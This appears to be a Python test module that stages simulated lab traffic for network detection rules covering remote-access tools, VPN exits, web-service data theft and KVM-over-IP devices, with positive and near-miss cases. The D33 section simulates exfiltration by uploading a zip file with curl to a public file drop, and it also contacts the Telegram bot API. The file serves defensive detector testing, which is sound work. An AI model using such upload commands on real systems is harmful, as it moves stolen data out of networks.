# SPDX-License-Identifier: Apache-2.0
"""D23, D24, D33, D37: tools and services that others use too."""
import os

from . import capture

WHEN = "2026-03-11 %02d:00:00"


def visit(lab, *names, path="/"):
    desk = lab.host("desk", 30)
    for number, name in enumerate(names):
        lab.site(name, f"192.0.2.{70 + number}")
    with lab.recording():
        for name in names:
            lab.curl(desk, f"https://{name}{path}")


# ----------------------------------------------------------- D23 remote access

@capture(WHEN % 8, ["1792300:2"])
def d23_relay(lab):
    """A desk connects to a relay of AnyDesk, by name"""
    visit(lab, "relay-4a7c2b11.net.anydesk.com")


@capture(WHEN % 9, ["1792300:3"])
def d23_rdp_out(lab):
    """A desk speaks RDP with a host outside"""
    desk = lab.host("desk", 30)
    lab.public("192.0.2.71")
    lab.serve(lab.internet, "remote.py", "serve", "rdp", 3389, tcp=3389)
    with lab.recording():
        lab.play(desk, "remote.py", "call", "rdp", "", "192.0.2.71", 3389)


@capture(WHEN % 10, ["1792301:2"])
def d23_rdp_in(lab):
    """RDP from outside to a desk that the firewall forgot"""
    desk = lab.host("desk", 30)
    lab.public("192.0.2.71")
    lab.serve(desk, "remote.py", "serve", "rdp", 3389, tcp=3389)
    with lab.recording():
        lab.play(lab.internet, "remote.py", "call", "rdp", "192.0.2.71", desk.address, 3389)


@capture(WHEN % 11, hosts={30: "helpdesk"})
def d23_helpdesk_near_miss(lab):
    """The help desk uses the same relay"""
    visit(lab, "relay-4a7c2b11.net.anydesk.com")


@capture(WHEN % 12)
def d23_site_near_miss(lab):
    """Somebody reads the web sites of such tools; and RDP between two hosts inside"""
    admin, server = lab.host("admin", 31), lab.host("server", 32)
    lab.serve(server, "remote.py", "serve", "rdp", 3389, tcp=3389)
    visit(lab, "www.teamviewer.com", "anydesk.com", "www.rustdesk.com")
    del admin


# --------------------------------------------------------------- D24 anon exit

@capture(WHEN % 8, ["1792400:3"])
def d24_vpn_out(lab):
    """A desk calls the service of a VPN for consumers"""
    visit(lab, "client.astrill.com")


@capture(WHEN % 9)
def d24_review_near_miss(lab):
    """Somebody reads about VPNs, on hosts whose names look alike"""
    visit(lab, "www.vpnreviews.example", "astrill.com.reviews.example", "notastrill.com", path="/best-vpn-2026")


EXIT = "192.0.2.77"
EXITS = ("--set", "plugins.detectors.tradecraft.exits={pcaps}/detectors/exits.txt name=exits source=invented-vpn")


def log_in(lab, address, protocol, port):
    """Somebody from outside opens a session to a server of ours."""
    server = lab.host("server", 40)
    lab.public(address)
    lab.serve(server, "remote.py", "serve", protocol, port, tcp=port)
    with lab.recording():
        lab.play(lab.internet, "remote.py", "call", protocol, address, server.address, port)


@capture(WHEN % 10, ["1792401:2"], options=EXITS)
def d24_ssh_in(lab):
    """SSH from an address of `exits.txt` to a server; the list is given by the option exits"""
    log_in(lab, EXIT, "ssh", 22)


@capture(WHEN % 11, ["1792400:3"], options=EXITS)
def d24_address_out(lab):
    """A desk talks to an address of that list"""
    desk = lab.host("desk", 30)
    lab.site(EXIT, EXIT)
    with lab.recording():
        desk.run("curl", "-sk", f"https://{EXIT}/")


@capture(WHEN % 12, options=EXITS)
def d24_customer_near_miss(lab):
    """SSH from an address that no list has"""
    log_in(lab, "192.0.2.78", "ssh", 22)


@capture(WHEN % 13, options=EXITS)
def d24_web_near_miss(lab):
    """Somebody behind such an exit reads the web site of ours"""
    server = lab.host("server", 40)
    lab.public(EXIT)
    lab.serve(server, "answer.py", 80, "HTTP/1.0 200 OK", tcp=80)
    with lab.recording():
        lab.play(lab.internet, "remote.py", "call", "web", EXIT, server.address, 80)


# ------------------------------------------------------ D33 web-service theft

def post(lab, name, size, hosts=30):
    desk = lab.host("desk", hosts)
    lab.public("192.0.2.75")
    lab.names.address(name, "192.0.2.75")
    lab.serve(lab.internet, "collector.js", 80, tcp=80)
    with lab.recording():
        lab.curl(desk, "-H", "Expect:", "-F", "file=@" + lab.file("desk.zip", bytes(size)), f"http://{name}/")


@capture(WHEN % 10, ["1793300:2"])
def d33_upload(lab):
    """1.5 MB go to a place where anybody may put files"""
    lab.jumbo_frames()
    post(lab, "0x0.st", 1500000)


@capture(WHEN % 11, ["1793301:3"])
def d33_contact(lab):
    """The Telegram bot API, from a desk, with little to say"""
    visit(lab, "api.telegram.org", path="/bot0:invented/getMe")


@capture(WHEN % 12, ["1793302:3"], hosts={30: "server"})
def d33_lookup(lab):
    """A server asks where it is"""
    desk = lab.host("desk", 30)
    lab.site("ip-api.com", "192.0.2.76", {"/json": '{"query":"198.51.100.1"}'}, 80, tls=None)
    with lab.recording():
        lab.curl(desk, "http://ip-api.com/json")


@capture(WHEN % 13)
def d33_chat_near_miss(lab):
    """A desk chats on Discord and asks where it is"""
    visit(lab, "discord.com", "ipinfo.io", path="/json")


# -------------------------------------------------------------------- D37 KVM

@capture(WHEN % 17, ["1793701:2"])
def d37_cloud(lab):
    """Such a device calls its maker's cloud"""
    visit(lab, "api.jetkvm.com")


def announce(lab, name):
    box = lab.host("box", 90)
    box.route("224.0.0.0/4", "dev", "eth0")
    with lab.recording():
        lab.play(box, "announce.py", box.address, name)


@capture(WHEN % 14, ["1793700:2"])
def d37_announced(lab):
    """A KVM-over-IP device announces its name by multicast DNS"""
    announce(lab, "pikvm")


def lease(lab, name):
    """dnsmasq leases an address, as the gateway of a small office does; the box says its name."""
    box = lab.host("box", 90)
    lab.names.lines.append(f"dhcp-range={lab.lan[91]},{lab.lan[99]},12h")
    with lab.recording():
        lab.play(box, "lease.py", "eth0", name)


@capture(WHEN % 15, ["1793700:2"])
def d37_leased(lab):
    """Such a device asks for an address by DHCP and says its name"""
    lease(lab, "nanokvm-3f2a")


@capture(WHEN % 16, ["1793700:2"])
def d37_page(lab):
    """Somebody opens the page of such a device by its address; the title says what it is"""
    desk, box = lab.host("desk", 30), lab.host("box", 90)
    folder = lab.folder + "/page"
    os.mkdir(folder)
    with open(folder + "/index.html", "w") as out:
        out.write("<!DOCTYPE html><html><head><meta charset=utf-8><title>TinyPilot</title></head><body></body></html>\n")
    box.start("/usr/bin/python3", "-m", "http.server", "-d", folder, 80, tcp=80)
    with lab.recording():
        lab.browse(desk, f"http://{box.address}/")


def speak(lab, *macs):
    """Boxes with these hardware addresses fetch a page."""
    lab.site("time.example", "192.0.2.79", {"/": "now"}, 80, tls=None)
    boxes = [lab.host(f"box{number}", 90 + number) for number in range(len(macs))]
    for box, mac in zip(boxes, macs):
        box.must("ip", "link", "set", "eth0", "address", mac)
    with lab.recording():
        for box in boxes:
            lab.curl(box, "http://time.example/")


@capture("2026-03-13 08:00:00", ["1793700:2", "1793700:3"])
def d37_maker(lab):
    """A box that says no name has a hardware address of JetKVM's maker; one in the rack has one of Raritan's"""
    speak(lab, "30:52:53:0a:1b:2c", "00:0d:5d:0a:1b:2c")


@capture("2026-03-13 09:00:00")
def d37_maker_near_miss(lab):
    """A Raspberry Pi, and a neighbour of NanoKVM's maker in the same 24 bits"""
    speak(lab, "dc:a6:32:0a:1b:2c", "48:da:35:7a:1b:2c")


@capture(WHEN % 18, hosts={90: "lab"})
def d37_lab_near_miss(lab):
    """The announced device stands in a laboratory"""
    announce(lab, "pikvm")


@capture(WHEN % 19)
def d37_printer_near_miss(lab):
    """Other boxes have names too"""
    announce(lab, "kvm-switch-printer")


@capture(WHEN % 20)
def d37_laptop_near_miss(lab):
    """A laptop asks for an address by DHCP"""
    lease(lab, "laptop-jetkvmfan")
